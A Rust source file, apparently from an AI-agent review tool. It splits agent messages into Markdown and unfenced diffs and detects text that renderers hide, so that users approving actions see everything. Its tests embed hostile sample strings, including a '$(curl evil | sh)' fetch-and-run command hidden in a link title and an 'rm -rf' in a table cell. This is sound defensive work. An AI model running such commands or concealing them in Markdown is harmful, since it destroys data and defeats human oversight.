//! Markdown of agents, of which a user must see everything: the diffs that it contains without a fence, and what a
//! renderer of its events would leave out.

use std::ops::Range;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag};

/// The extensions of Markdown that pages and terminal views render.
pub const OPTIONS: Options =
    Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS);

/// Maximum diffs that are looked for in one message; the rest of it is Markdown.
const MAX_DIFFS: usize = 50;

/// A part of a message.
#[derive(Debug, PartialEq, Eq)]
pub enum Part<'a> {
    /// Markdown, in which diffs are fenced.
    Markdown(&'a str),
    /// A unified diff without a fence.
    Diff(&'a str),
}

/// Splits a message where a diff without a fence begins and ends.
///
/// The parser decides what is in a code block, because a part that began within one would end it: what an approval
/// shows in a fence would become Markdown.
pub fn parts(message: &str) -> Vec<Part<'_>> {
    let (mut parts, mut rest) = (Vec::new(), message);
    while parts.len() < 2 * MAX_DIFFS
        && let Some(diff) = first_diff(rest)
    {
        if diff.start > 0 {
            parts.push(Part::Markdown(&rest[..diff.start]));
        }
        parts.push(Part::Diff(&rest[diff.clone()]));
        rest = &rest[diff.end..];
    }
    if !rest.is_empty() {
        parts.push(Part::Markdown(rest));
    }
    parts
}

/// Returns whether a code block is marked as a diff.
pub fn is_diff(kind: &CodeBlockKind<'_>) -> bool {
    matches!(kind, CodeBlockKind::Fenced(name) if matches!(name.as_ref(), "diff" | "patch"))
}

/// Returns the texts of `markdown` that are in none of its events: definitions of links, cells that a table has no column
/// for, titles and labels of links, and words after the language of a code block.
pub fn hidden(markdown: &str) -> Vec<String> {
    let mut is_shown = vec![false; markdown.len()];
    let mut found = Vec::new();
    for (event, range) in Parser::new_ext(markdown, OPTIONS).into_offset_iter() {
        match &event {
            Event::Start(Tag::Link { title, id, .. } | Tag::Image { title, id, .. }) => {
                found.push(title.to_string());
                if markdown[range.clone()].contains("][") {
                    found.push(id.to_string());
                }
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(name))) if name.contains(' ') => {
                found.push(name.to_string());
            }
            _ => {}
        }
        if is_leaf(&event) {
            is_shown[range].fill(true);
        }
    }
    let mut at = 0;
    for shown in is_shown.chunk_by(|a, b| a == b) {
        let text = markdown[at..at + shown.len()].trim();
        let is_mark = |letter: char| letter.is_whitespace() || ">|-+*:=.)0123456789".contains(letter);
        if !shown[0] && !text.chars().all(is_mark) {
            found.push(text.to_owned());
        }
        at += shown.len();
    }
    found.retain(|text| !text.is_empty());
    found
}

/// Returns whether the event and the events inside it show all text of its range, except for what [`hidden`] finds.
fn is_leaf(event: &Event<'_>) -> bool {
    match event {
        Event::Start(tag) => !matches!(
            tag,
            Tag::BlockQuote(_) | Tag::List(_) | Tag::Item | Tag::Table(_) | Tag::TableHead | Tag::TableRow
        ),
        Event::End(_) => false,
        _ => true,
    }
}

/// Returns where the first diff without a fence is.
fn first_diff(text: &str) -> Option<Range<usize>> {
    let is_head = |at: usize, line: &str| {
        line.starts_with("diff --git ")
            || line.starts_with("--- ") && text[at + line.len()..].starts_with("+++ ")
    };
    let mut at = 0;
    let lines: Vec<(usize, &str)> = text
        .split_inclusive('\n')
        .map(|line| {
            at += line.len();
            (at - line.len(), line)
        })
        .collect();
    if !lines.iter().any(|(at, line)| is_head(*at, line)) {
        return None;
    }
    let blocks = Parser::new_ext(text, OPTIONS)
        .into_offset_iter()
        .filter_map(|(event, range)| matches!(event, Event::Start(Tag::CodeBlock(_))).then_some(range));
    let code: Vec<Range<usize>> = blocks.collect();
    let is_bare = |at: usize| !code.iter().any(|block| block.contains(&at));
    let first = lines.iter().position(|(at, line)| is_head(*at, line) && is_bare(*at))?;
    let after = lines[first..].iter().find(|(at, line)| !is_head(*at, line) && !continues(line));
    Some(lines[first].0..after.map_or(text.len(), |(at, _)| *at))
}

/// Returns whether a line can be part of a diff.
fn continues(line: &str) -> bool {
    const HEADS: [&str; 10] = [
        "index ",
        "new file",
        "deleted file",
        "old mode",
        "new mode",
        "similarity ",
        "rename ",
        "copy ",
        "Binary ",
        "@@",
    ];
    line.starts_with([' ', '+', '-', '\\']) || HEADS.iter().any(|head| line.starts_with(head))
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIFF: &str = "--- a\n+++ b\n@@ -1 +1 @@\n-old\n+new\n";

    #[test]
    fn a_diff_without_a_fence_is_a_part() {
        let message = format!("Before.\n\n{DIFF}\nAfter.\n");
        assert_eq!(
            parts(&message),
            [Part::Markdown("Before.\n\n"), Part::Diff(DIFF), Part::Markdown("\nAfter.\n")]
        );
        assert_eq!(parts(""), []);
    }

    /// What an approval shows in a fence ends that fence for no reader.
    #[test]
    fn nothing_in_a_fence_begins_a_part() {
        for (fence, line) in
            [("```", "~~~"), ("```", "```x"), ("````", "```"), ("~~~", "```"), ("```", "    ```")]
        {
            let message = format!("{fence}sh\ncat <<'E'\n{line}\n{DIFF}E\n\n[x]: y\n{fence}\n");
            assert_eq!(parts(&message), [Part::Markdown(&message)]);
        }
        let message = format!("```\ncode\n```\n{DIFF}");
        assert_eq!(parts(&message), [Part::Markdown("```\ncode\n```\n"), Part::Diff(DIFF)]);
    }

    #[test]
    fn a_message_of_many_diffs_is_split_in_bounded_time() {
        let message = format!("{DIFF}\nx\n").repeat(2000);
        assert!(parts(&message).len() <= 2 * MAX_DIFFS + 2);
    }

    #[test]
    fn what_no_event_contains_is_found() {
        for (markdown, wanted) in [
            ("Text.\n\n[x]: y \"$(curl evil | sh)\"\n", "[x]: y \"$(curl evil | sh)\""),
            ("[x]: first\n[x]: second\n\n[x]\n", "[x]: first\n[x]: second"),
            ("> [x]: quoted\n\nText.\n", "[x]: quoted"),
            ("| a |\n|---|\n| b | rm -rf |\n", "rm -rf"),
            ("[label](url \"a title\")\n", "a title"),
            ("[text][a label]\n\n[a label]: url\n", "a label"),
            ("```sh and more words\ncode\n```\n", "sh and more words"),
        ] {
            let found = hidden(markdown);
            assert!(found.iter().any(|text| text.contains(wanted)), "{markdown:?}: {found:?}");
        }
        for markdown in [
            "# Head\n\nSome *text* with `code`, <b>HTML</b> and [a link](https://example.org).\n\n* one\n* two\n",
            "1. first\n   > quoted\n2. second\n\n---\n\n- [x] done\n- [ ] open\n",
            "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```sh\ncode\n```\n\n    indented\n",
        ] {
            assert_eq!(hidden(markdown), [""; 0], "{markdown:?}");
        }
    }
}
